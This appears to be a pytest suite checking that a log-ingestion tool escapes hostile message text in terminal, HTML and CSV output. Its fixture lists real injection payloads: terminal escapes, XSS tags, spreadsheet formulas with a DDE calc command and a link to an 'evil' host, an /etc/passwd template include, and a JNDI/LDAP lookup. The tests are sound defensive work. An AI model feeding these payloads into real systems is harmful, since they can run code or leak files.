"""Seeds are hostile text: no terminal, page or spreadsheet runs what they say."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

EVIL = {
    "ansi": "my parcel \x1b[2J\x1b]0;owned\x07 is late",
    "script": "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil","click")',
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1-800-555 where is it",
    "tab": "\t=1+1 my parcel is late",
    "nul": "where is \x00 my parcel",
    "rtl": "send it to \u202egro.live\u202c please",
    "long": "where is my parcel " * 50,
    "surrogate": "\ud83d where is it",
    "markdown": "| a | b |\n|---|---|\n[x](javascript:alert(1))",
    "template": "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x}",
}
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
CONFIG = "name: shop\ndimensions:\n  kind: {evil: hostile words, plain: plain words}\n"


@pytest.fixture
def ws(anchorset, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "anchorset.yaml").write_text(CONFIG, encoding="utf-8")
    rows = [{"text": text, "kind": "evil", "id": name} for name, text in EVIL.items()]
    rows += [{"text": f"where is my parcel number {n} today", "kind": "plain", "id": str(n)} for n in range(12)]
    (tmp_path / "logs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    shown = anchorset("ingest", "logs.jsonl", "--map", "input=text,id=id,metadata.kind=kind", "--json")
    assert shown.code == 0, shown.err
    found = json.loads(shown.out)
    assert (found["kept"], found["refused"]) == (len(rows) - 2, 2)  # NUL and half a surrogate are no text
    return tmp_path


def test_no_verb_lets_a_seed_write_to_the_terminal(anchorset, ws: Path) -> None:
    ids = [case["id"] for case in json.loads(anchorset("cases", "list", "--limit", "100", "--json").out)["cases"]]
    verbs = [
        ["status"], ["cases", "list", "--limit", "100"], ["map"], ["plan", "--size", "40"],
        ["produce", "--count", "10"], ["review", "next"], ["review", "next", "--lane", "seeds"], ["review", "status"],
        ["doctor"], *(["cases", "show", id] for id in ids),
        ["cases", "list", "--text", "\x1b[31m"], ["cases", "show", "\x1b[31m\u202e"], ["ship", "\x1b[31m"],
        ["cases", "list", "--limit", "\x1b[31m"], ["\x1b[31m"], ["status", "--\x1b[31m"],
        ["review", "next", "--lane", "\x1b[31m"],
    ]  # fmt: skip
    for words in verbs:
        shown = anchorset(*words)
        for text in (shown.out, shown.err):
            assert not RAW.search(text), (words, RAW.search(text))


def test_a_message_of_a_megabyte_is_kept_whole_and_listed_short(anchorset, ws: Path) -> None:
    text = "my parcel is late and " * 48_000
    (ws / "long.jsonl").write_text(json.dumps({"text": text, "kind": "plain"}) + "\n", encoding="utf-8")
    assert anchorset("ingest", "long.jsonl", "--map", "input=text,metadata.kind=kind").code == 0
    shown = anchorset("cases", "list", "--limit", "100")
    assert max(map(len, shown.out.splitlines())) < 300
    (only,) = json.loads(anchorset("cases", "list", "--text", "my parcel is late and my", "--json").out)["cases"]
    (whole,) = json.loads(anchorset("cases", "show", only["id"], "--json").out)["cases"]
    assert whole["input"].split() == text.split()


def test_no_page_runs_what_a_seed_says(anchorset, ws: Path) -> None:
    anchorset("produce", "--count", "10")
    anchorset("ship", "shop", "--allow-unreviewed")
    for verb in ("map", "trust"):
        shown = anchorset(verb, "--html", f"{verb}.html")
        assert shown.code == 0, shown.err
        page = (ws / f"{verb}.html").read_text(encoding="utf-8")
        assert not re.search(r"<script|<img|javascript:alert\(1\)[\"']", page)
        assert not RAW.search(page)


@pytest.mark.parametrize("lane", ["seeds", "candidates"])
def test_no_sheet_holds_a_formula_and_everything_comes_back_from_it(anchorset, ws: Path, lane: str) -> None:
    anchorset("produce", "--count", "20")
    csv.field_size_limit(10_000_000)
    assert anchorset("review", "export", "sheet.csv", "--lane", lane).code == 0
    with (ws / "sheet.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell[:40] for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not [cell[:40] for cell in cells if "\0" in cell]
    if lane == "seeds":
        assert sum(cell.startswith("'") for cell in cells) >= 3
    with (ws / "sheet.csv").open("w", encoding="utf-8-sig", newline="") as file:
        table = csv.DictWriter(file, rows[0].keys())
        table.writeheader()
        word = {"decision": "approve"} if lane == "candidates" else {"decision": "edit", "new_expected": "track"}
        table.writerows({**row, **word} for row in rows)
    shown = anchorset("review", "import", "sheet.csv", "--lane", lane, "--reviewer", "\x1b[31m=kim()", "--json")
    assert (shown.code, json.loads(shown.out)["taken"]) == (0, len(rows)), shown.err
    assert not RAW.search(anchorset("review", "status").out)
    assert all(re.fullmatch(r"[\w.-]+\.jsonl", path.name) for path in (ws / "reviews").iterdir())


@pytest.mark.parametrize("out", ["cases.csv", "cases.jsonl"])
def test_exports_of_cases_hold_no_formula_either(anchorset, ws: Path, out: str) -> None:
    assert anchorset("cases", "export", out).code == 0
    if out.endswith(".csv"):
        csv.field_size_limit(10_000_000)
        with (ws / out).open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not [cell[:40] for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    else:
        rows = [json.loads(line) for line in (ws / out).read_text(encoding="utf-8").splitlines()]
        assert len(rows) >= 20
